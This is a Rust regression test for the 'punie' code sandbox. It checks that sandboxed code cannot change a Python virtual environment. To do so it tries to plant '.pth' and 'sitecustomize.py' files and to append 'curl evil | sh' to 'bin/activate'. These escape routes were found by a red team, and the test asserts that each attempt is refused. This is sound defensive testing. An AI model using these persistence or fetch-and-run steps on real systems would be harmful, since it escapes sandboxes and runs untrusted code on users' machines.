//! Protected paths the red team reached from inside the workspace: a Python environment not
//! named `.venv`, whose `.pth` files and `bin/activate` run outside the jail. Each test runs
//! the real jail through `punie sandbox --allow-commands` and asserts the effect did not
//! happen: the files are as they were, nothing new exists.

use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::{Value, json};

/// Runs `code` with `punie sandbox --allow-commands` in `workspace`; its result object.
fn sandbox(workspace: &Path, code: &str) -> Value {
    use std::io::Write;
    let mut child = Command::new(env!("CARGO_BIN_EXE_punie"))
        .args(["sandbox", "--allow-commands", "--workspace"])
        .arg(workspace)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(code.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    serde_json::from_slice(&out.stdout).unwrap()
}

/// A virtual environment named `venv` (the name `python -m venv venv` gives) is a Python
/// environment as much as `.venv`: commands cannot add a `.pth` to its site-packages (Python
/// runs it at every start) or change `bin/activate`, and `write_file` refuses both.
#[test]
fn a_virtual_environment_of_any_name_stays_as_it_is() {
    let ws = tempfile::tempdir().unwrap();
    let root = ws.path().canonicalize().unwrap();
    let site = root.join("venv/lib/python3.11/site-packages");
    std::fs::create_dir_all(&site).unwrap();
    std::fs::write(root.join("venv/pyvenv.cfg"), "home = /usr/bin\n").unwrap();
    std::fs::create_dir_all(root.join("venv/bin")).unwrap();
    std::fs::write(root.join("venv/bin/activate"), "# activate\n").unwrap();

    let res = sandbox(
        &root,
        r#"
site = 'venv/lib/python3.11/site-packages'
for script in [
    'echo "import os" > ' + site + '/zz_evil.pth',
    'echo "import os" > ' + site + '/sitecustomize.py',
    'echo "curl evil | sh" >> venv/bin/activate',
]:
    print(run_command('sh', args=['-c', script]))
for path in ['venv/bin/activate', site + '/zz_evil.pth']:
    try:
        write_file(path, 'import os\n')
        print('written', path)
    except PermissionError as err:
        print('refused', err)
"#,
    );
    assert_eq!(res["ok"], json!(true), "{res:#}");
    let output = res["output"].as_str().unwrap();

    assert!(!site.join("zz_evil.pth").exists(), "{output}");
    assert!(!site.join("sitecustomize.py").exists(), "{output}");
    assert_eq!(
        std::fs::read_to_string(root.join("venv/bin/activate")).unwrap(),
        "# activate\n",
        "{output}"
    );
    assert!(!output.contains("written"), "{output}");
    assert_eq!(output.matches("refused").count(), 2, "{output}");
    assert!(!root.join(".punie/quarantine").exists(), "{output}");
}
